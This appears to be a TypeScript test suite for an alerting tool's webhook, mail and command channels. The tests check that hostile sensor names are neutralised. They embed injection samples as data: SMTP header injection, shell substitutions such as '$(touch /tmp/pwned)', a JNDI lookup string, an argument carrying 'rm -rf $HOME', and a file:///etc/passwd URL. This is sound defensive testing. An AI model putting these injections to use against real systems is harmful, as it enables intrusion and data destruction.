/** Each channel against a real server or program of this machine. */
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { createHmac } from 'node:crypto'
import { once } from 'node:events'
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import { type AddressInfo, createServer as createPlainServer } from 'node:net'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { SMTPServer, type SMTPServerOptions } from 'smtp-server'
import {
  commandChannel,
  isMailAddress,
  isWebhookUrl,
  type MailOptions,
  mailChannel,
  type WebhookOptions,
  webhookChannel,
} from '../../src/alert/index.ts'
import { type AlertMessage, messageDocument, messageJson } from '../../src/alert/message.ts'
import { ownText } from '../../src/core/event.ts'
import { type SafeText, shortText } from '../../src/core/text.ts'
import { LIMITS } from '../../src/limits.ts'
import { toVisible } from '../../src/neutralize/visible.ts'
import { ORACLES } from '../../src/output/oracle/index.ts'
import { OUTPUTS } from '../../src/output/outputs.ts'
import type { AlertRecord } from '../../src/store/port.ts'
import { FORMS, PAYLOADS } from '../hostile/payloads.ts'
import { withTempFolder } from '../support/loading.ts'

/** Headers, a link, escapes, bidi, shell and markup in the name of one sensor. */
const HOSTILE =
  'x\r\nBcc: evil@example.org\r\n\r\n<a href="http://evil.example">.\r\n\u202e\u001b]8;;http://evil.example\u0007 $(touch /tmp/pwned) `id` ${jndi:ldap://evil.example} 日本'

const SIGNAL = new AbortController().signal

function about(subject: SafeText, overrides: Partial<AlertMessage> = {}): AlertMessage {
  const record: AlertRecord = {
    ...{ id: 7, kind: 'silent-sensor', subject, state: 'open', severity: 'warning' },
    ...{ firstAtUs: 0, lastAtUs: 60_000_000, seen: 2, missed: 0, occurrences: 1, figure: 30 },
    ...{ threshold: 26, sentence: 'No event for 30 hours.', notifiedAtUs: 0, deliveries: {} },
  }
  return {
    ...{ event: 'opened', sentAtUs: 1_795_290_222_000_000, record },
    heldBack: { count: 1, first: [{ kind: 'held', subject, event: 'opened' }] },
    ...overrides,
  }
}

type Asked = { readonly headers: IncomingHttpHeaders; readonly body: string; readonly url: string }

/** A web server that answers with these statuses, one after the other, and then with the last. */
async function withServer(
  statuses: readonly number[],
  work: (url: string, asked: Asked[], server: Server) => Promise<void>,
): Promise<void> {
  const asked: Asked[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (part: string) => {
      body += part
    })
    request.on('end', () => {
      const status = statuses[Math.min(asked.length, statuses.length - 1)]!
      asked.push({ headers: request.headers, body, url: request.url ?? '' })
      if (status === 0) return // never answers
      const { port } = server.address() as AddressInfo
      response.writeHead(status, { location: `http://127.0.0.1:${port}/elsewhere` }).end('thanks')
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  try {
    await work(`http://127.0.0.1:${port}/hook`, asked, server)
  } finally {
    server.closeAllConnections()
    server.close()
    await once(server, 'close')
  }
}

const webhook = (url: string, more: Partial<WebhookOptions> = {}) =>
  webhookChannel({ url, secret: undefined, timeoutMs: 5_000, fetch, retryMs: 4, ...more })

describe('the webhook', () => {
  test('posts the alert as one JSON document, signed', async () => {
    await withServer([204], async (url, asked) => {
      const channel = await webhook(url, { secret: 'a secret' })
      const delivery = await channel.send(about(toVisible(HOSTILE)), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: true, result: 'answered 204' })
      assert.equal(asked.length, 1)
      const { headers, body } = asked[0]!
      assert.equal(headers['content-type'], 'application/json')
      const hmac = createHmac('sha256', 'a secret').update(body).digest('hex')
      assert.equal(headers['x-nacre-signature'], `sha256=${hmac}`)
      const document = JSON.parse(body)
      assert.equal(document.event, 'opened')
      assert.equal(document.alert.kind, 'silent-sensor')
      assert.equal(document.alert.subject, toVisible(HOSTILE))
      assert.equal(document.heldBack.count, 1)
      assert.doesNotMatch(body, /[\u0000-\u001f\u007f-\u009f\u202e<>]/)
    })
  })

  test('has no signature without a secret', async () => {
    await withServer([200], async (url, asked) => {
      await (await webhook(url)).send(about(ownText('s')), SIGNAL)
      assert.equal(asked[0]!.headers['x-nacre-signature'], undefined)
    })
  })

  test('tries again what may pass', async () => {
    await withServer([503, 429, 200], async (url, asked) => {
      const delivery = await (await webhook(url)).send(about(ownText('s')), SIGNAL)
      assert.equal(delivery.isDelivered, true)
      assert.equal(asked.length, 3)
    })
  })

  test('gives up after its tries, and says what the server said', async () => {
    await withServer([500], async (url, asked) => {
      const delivery = await (await webhook(url)).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: false, result: 'answered 500' })
      assert.equal(asked.length, LIMITS.alertTriesMax)
    })
  })

  test('does not try again what is refused for good', async () => {
    await withServer([404], async (url, asked) => {
      const delivery = await (await webhook(url)).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: false, result: 'answered 404' })
      assert.equal(asked.length, 1)
    })
  })

  test('follows no redirect', async () => {
    for (const status of [301, 302, 303, 307, 308]) {
      await withServer([status], async (url, asked) => {
        const delivery = await (await webhook(url)).send(about(ownText('s')), SIGNAL)
        assert.equal(delivery.isDelivered, false)
        assert.match(delivery.result, /redirects are not followed/)
        assert.deepEqual(
          asked.map((one) => one.url),
          ['/hook'],
        )
      })
    }
  })

  test('leaves a server that keeps failing alone', async () => {
    await withServer([500], async (url, asked) => {
      const channel = await webhook(url)
      for (let i = 0; i < LIMITS.alertBreakerFailures; i += 1)
        await channel.send(about(ownText('s')), SIGNAL)
      const before = asked.length
      const delivery = await channel.send(about(ownText('s')), SIGNAL)
      assert.equal(delivery.isDelivered, false)
      assert.match(delivery.result, /^not tried/)
      assert.equal(asked.length, before)
    })
  })

  test('waits for an answer no longer than its time', async () => {
    await withServer([0], async (url) => {
      const channel = await webhook(url, { timeoutMs: 30 })
      const delivery = await channel.send(about(ownText('s')), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: false, result: 'no answer: timed out' })
    })
  })

  test('names a server that is not there by the code of the system, and no URL', async () => {
    const delivery = await (await webhook('http://127.0.0.1:1/token-of-the-hook')).send(
      about(ownText('s')),
      SIGNAL,
    )
    assert.equal(delivery.isDelivered, false)
    assert.doesNotMatch(delivery.result, /token-of-the-hook/)
  })

  test('stops at once when it is told to', async () => {
    await withServer([0], async (url) => {
      const stop = new AbortController()
      const sending = (await webhook(url)).send(about(ownText('s')), stop.signal)
      stop.abort()
      assert.equal((await sending).isDelivered, false)
    })
  })

  test('takes https, or http to this machine', () => {
    for (const url of [
      ...['https://hooks.example.org/x', 'http://127.0.0.1:8080/', 'http://localhost/x'],
      ...['http://[::1]:9/', 'http://127.8.9.10/'],
    ])
      assert.equal(isWebhookUrl(url), true, url)
    for (const url of [
      ...['http://hooks.example.org/x', 'http://127.0.0.1.example.org/', 'ftp://127.0.0.1/'],
      ...['https://user:word@example.org/', 'file:///etc/passwd', 'hooks.example.org', ''],
    ])
      assert.equal(isWebhookUrl(url), false, url)
  })
})

type Received = { readonly from: string; readonly to: readonly string[]; readonly raw: string }

/** An SMTP server that keeps what it is given. */
async function withMailServer(
  options: SMTPServerOptions,
  work: (port: number, received: Received[]) => Promise<void>,
): Promise<void> {
  const received: Received[] = []
  const server = new SMTPServer({
    disabledCommands: ['STARTTLS', 'AUTH'],
    disableReverseLookup: true,
    onData(stream, session, callback) {
      const parts: Buffer[] = []
      stream.on('data', (part: Buffer) => parts.push(part))
      stream.on('end', () => {
        const { mailFrom, rcptTo } = session.envelope
        received.push({
          from: mailFrom === false ? '' : mailFrom.address,
          to: rcptTo.map((one) => one.address),
          raw: Buffer.concat(parts).toString('utf8'),
        })
        callback()
      })
    },
    ...options,
  })
  server.on('error', () => {})
  server.listen(0, '127.0.0.1')
  await once(server.server, 'listening')
  try {
    await work((server.server.address() as AddressInfo).port, received)
  } finally {
    await new Promise<void>((resolve) => server.close(resolve))
  }
}

const mail = (port: number, more: Partial<MailOptions> = {}) =>
  mailChannel({
    ...{ host: '127.0.0.1', port, security: 'none', login: undefined, timeoutMs: 5_000 },
    ...{ from: 'nacre@example.org', to: ['ops@example.org', 'night@example.org'] },
    ...more,
  })

describe('mail', () => {
  test('hands over a message whose headers, addresses and lines are ours, whatever the sensor is called', async () => {
    await withMailServer({}, async (port, received) => {
      const channel = await mail(port)
      for (const subject of [
        ...[toVisible(HOSTILE), HOSTILE as SafeText], // the second is a fault that encoders have to stand
        ownText('harmless'),
      ]) {
        const delivery = await channel.send(about(subject), SIGNAL)
        assert.deepEqual(delivery, { isDelivered: true, result: 'accepted by the server' })
      }
      const headers = received.map(({ raw }) =>
        raw
          .slice(0, raw.indexOf('\r\n\r\n'))
          .replaceAll(/\r\n[ \t]/g, ' ')
          .split('\r\n')
          .map((line) => line.slice(0, line.indexOf(':'))),
      )
      assert.deepEqual(headers[0], headers[2])
      assert.deepEqual(headers[1], headers[2])
      const twin = withoutId(received[2]!.raw)
      for (const one of received) {
        assert.equal(one.from, 'nacre@example.org')
        assert.deepEqual(one.to, ['ops@example.org', 'night@example.org'])
        assert.doesNotMatch(one.raw, /^(?:Bcc|From: (?!nacre <nacre@))/im)
        assert.doesNotMatch(one.raw, /[^\x20-\x7e\r\n]/)
        assert.doesNotMatch(one.raw, /http:\/\/evil\.example|evil@example\.org/)
        assert.deepEqual(ORACLES.mail(withoutId(one.raw), twin), [])
      }
    })
  })

  test('carries figure, threshold, advice and what was held back', async () => {
    await withMailServer({}, async (port, received) => {
      await (await mail(port)).send(about(ownText('sensor-1')), SIGNAL)
      const { raw } = received[0]!
      for (const words of [
        ...['No event for 30 hours.', '26 hours', 'docs/alerts.md#silent-sensor'],
        ...['Held back before', 'Subject: nacre alert opened warning a sensor is silent'],
      ])
        assert.ok(raw.replaceAll('=\r\n', '').includes(words), words)
    })
  })

  test('says what the server answered when it refuses', async () => {
    await withMailServer(
      {
        onRcptTo(_address, _session, callback) {
          callback(Object.assign(new Error('no such user'), { responseCode: 550 }))
        },
      },
      async (port, received) => {
        const delivery = await (await mail(port)).send(about(ownText('s')), SIGNAL)
        assert.equal(delivery.isDelivered, false)
        assert.match(delivery.result, /the server answered 550/)
        assert.doesNotMatch(delivery.result, /no such user/)
        assert.deepEqual(received, [])
      },
    )
  })

  test('tells when some of the addresses were refused', async () => {
    await withMailServer(
      {
        onRcptTo(address, _session, callback) {
          callback(address.address.startsWith('ops') ? null : new Error('no'))
        },
      },
      async (port) => {
        const delivery = await (await mail(port)).send(about(ownText('s')), SIGNAL)
        assert.deepEqual(delivery, {
          isDelivered: true,
          result: 'accepted, but for 1 of 2 addresses',
        })
      },
    )
  })

  test('sends nothing in the clear where TLS was asked for', async () => {
    await withMailServer({}, async (port, received) => {
      for (const security of ['starttls', 'tls'] as const) {
        const channel = await mail(port, { security, timeoutMs: 1_000 })
        const delivery = await channel.send(about(ownText('s')), SIGNAL)
        assert.equal(delivery.isDelivered, false, security)
      }
      assert.deepEqual(received, [])
    })
  })

  test('does not take a certificate that nobody vouches for', async () => {
    // The test server brings a certificate of its own making.
    await withMailServer({ disabledCommands: ['AUTH'] }, async (port, received) => {
      const channel = await mail(port, { security: 'starttls' })
      assert.equal((await channel.send(about(ownText('s')), SIGNAL)).isDelivered, false)
      assert.deepEqual(received, [])
    })
  })

  test('signs in where a user is set, and never repeats the password', async () => {
    const seen: string[] = []
    await withMailServer(
      {
        disabledCommands: ['STARTTLS'],
        authOptional: false,
        allowInsecureAuth: true,
        onAuth(auth, _session, callback) {
          seen.push(`${auth.username} ${auth.password}`)
          if (auth.password === 'right') callback(null, { user: 'u' })
          else callback(new Error('wrong password'))
        },
      },
      async (port, received) => {
        const right = await mail(port, { login: { user: 'u', password: 'right' } })
        assert.equal((await right.send(about(ownText('s')), SIGNAL)).isDelivered, true)
        const wrong = await mail(port, { login: { user: 'u', password: 'a wrong one' } })
        const delivery = await wrong.send(about(ownText('s')), SIGNAL)
        assert.equal(delivery.isDelivered, false)
        assert.doesNotMatch(delivery.result, /a wrong one/)
        assert.equal(received.length, 1)
        assert.deepEqual(seen, ['u right', 'u a wrong one'])
      },
    )
  })

  test('waits for a server that does not speak no longer than its time', async () => {
    const server = createPlainServer(() => {}).listen(0, '127.0.0.1')
    await once(server, 'listening')
    const sockets = new Set<import('node:net').Socket>()
    server.on('connection', (socket) => sockets.add(socket))
    try {
      const { port } = server.address() as AddressInfo
      const channel = await mail(port, { timeoutMs: 50 })
      assert.equal((await channel.send(about(ownText('s')), SIGNAL)).isDelivered, false)
    } finally {
      for (const socket of sockets) socket.destroy()
      server.close()
      await once(server, 'close')
    }
  })

  test('takes plain addresses alone', () => {
    for (const address of ['ops@example.org', 'a.b+c@host', "o'neil@example.org"])
      assert.equal(isMailAddress(address), true, address)
    for (const address of [
      ...[
        'ops',
        'a@b\r\nBcc: c@d',
        'A <a@b>',
        'a@b,c@d',
        'a b@c',
        '@c',
        'a@',
        'a@b c',
        'ä@b',
        '"x"@y',
      ],
      ...['a@-b', 'a@b.', `${'a'.repeat(65)}@b`],
    ])
      assert.equal(isMailAddress(address), false, address)
  })
})

function withoutId(raw: string): string {
  return raw.replace(/^Message-ID: .*$/m, 'Message-ID: <x>')
}

/** A program that keeps what it is given: arguments, environment and standard input. */
function program(folder: string, end: string): string {
  const file = join(folder, 'hook.sh')
  writeFileSync(
    file,
    `#!/bin/sh\nprintf '%s\\n' "$#" "$@" > ${folder}/arguments\nenv > ${folder}/environment\ncat > ${folder}/input\n${end}\n`,
  )
  chmodSync(file, 0o700)
  return file
}

const ENVIRONMENT = {
  PATH: process.env['PATH'],
  HOME: '/nowhere',
  NACRE_STORE: 'postgres://user:password@host/db',
  HOOK_SECRET: 'hush',
}

const command = (file: string, timeoutMs = 60_000) =>
  commandChannel({
    file,
    args: ['--to', 'ops; rm -rf $HOME'],
    environment: ENVIRONMENT,
    timeoutMs,
    spawn,
  })

describe('the command', () => {
  test('reads the alert on its standard input; arguments and environment hold nothing of it, and no secret', async () => {
    await withTempFolder(async (folder) => {
      const file = program(folder, 'exit 0')
      for (const subject of [toVisible(HOSTILE), HOSTILE as SafeText]) {
        const message = about(subject)
        const delivery = await command(file).send(message, SIGNAL)
        assert.deepEqual(delivery, { isDelivered: true, result: 'exit status 0' })
        const read = (name: string): string => readFileSync(join(folder, name), 'utf8')
        assert.equal(read('arguments'), '2\n--to\nops; rm -rf $HOME\n')
        assert.doesNotMatch(read('environment'), /evil|pwned|NACRE|HOOK|hush|password|silent/)
        assert.equal(read('input'), `${messageJson(message)}\n`)
        assert.equal(read('input').split('\n').length, 2, 'one line')
        assert.equal(JSON.parse(read('input')).alert.kind, 'silent-sensor')
      }
      assert.ok(!existsSync('/tmp/pwned'))
    })
  })

  test('its exit status is told', async () => {
    await withTempFolder(async (folder) => {
      const delivery = await command(program(folder, 'exit 3')).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: false, result: 'exit status 3' })
    })
  })

  test('a command that takes too long is killed, and what it started with it', async () => {
    await withTempFolder(async (folder) => {
      const file = program(folder, `sleep 600 &\necho $! > ${folder}/child\nwait`)
      const delivery = await command(file, 1_000).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: false, result: 'killed after 1 seconds' })
      if (!existsSync(join(folder, 'child'))) return // it was killed before it came so far
      const child = Number(readFileSync(join(folder, 'child'), 'utf8'))
      const isGone = (): boolean => {
        try {
          return readFileSync(`/proc/${child}/stat`, 'latin1').includes(') Z ')
        } catch {
          return true
        }
      }
      // Its parent is gone; that it follows takes the system a moment.
      for (let tries = 0; tries < 200 && !isGone(); tries += 1)
        await new Promise((resolve) => setTimeout(resolve, 10))
      const wasKilled = isGone()
      if (!wasKilled) process.kill(child, 'SIGKILL')
      assert.ok(wasKilled, 'what it started still runs')
    })
  })

  test('one that ends without reading is no failure', async () => {
    await withTempFolder(async (folder) => {
      const file = join(folder, 'deaf.sh')
      writeFileSync(file, '#!/bin/sh\nexec <&-\nexit 0\n')
      chmodSync(file, 0o700)
      const long = { event: 'opened', kind: 'held', subject: ownText('x'.repeat(200)) }
      const heldBack = { count: 50, first: Array.from({ length: 5_000 }, () => long) }
      const delivery = await command(file).send(about(ownText('s'), { heldBack }), SIGNAL)
      assert.deepEqual(delivery, { isDelivered: true, result: 'exit status 0' })
    })
  })

  test('one that is not there, or is no program, is told by the code of the system', async () => {
    await withTempFolder(async (folder) => {
      const missing = await command(join(folder, 'absent')).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(missing, { isDelivered: false, result: 'not started: ENOENT' })
      const file = join(folder, 'text')
      writeFileSync(file, 'no program')
      const plain = await command(file).send(about(ownText('s')), SIGNAL)
      assert.deepEqual(plain, { isDelivered: false, result: 'not started: EACCES' })
    })
  })
})

describe('messages', () => {
  test('are the same in build for every name of a sensor, in every output', () => {
    const twin = messageDocument(about(ownText('harmless')))
    for (const payload of PAYLOADS) {
      for (const form of FORMS) {
        const subject = shortText(form.of(payload.text), LIMITS.alertSubjectCharsMax)
        const document = messageDocument(about(subject))
        for (const output of OUTPUTS) {
          // Candidates for patterns are facts of sessions; here is none.
          const problems = ORACLES[output.name](
            output.render(document).text,
            output.render(twin).text,
          )
          assert.deepEqual(problems, [], `${payload.id} ${form.name} ${output.name}`)
        }
        const json = messageJson(about(subject))
        assert.deepEqual(ORACLES.json(json, json), [], payload.id)
      }
    }
  })
})
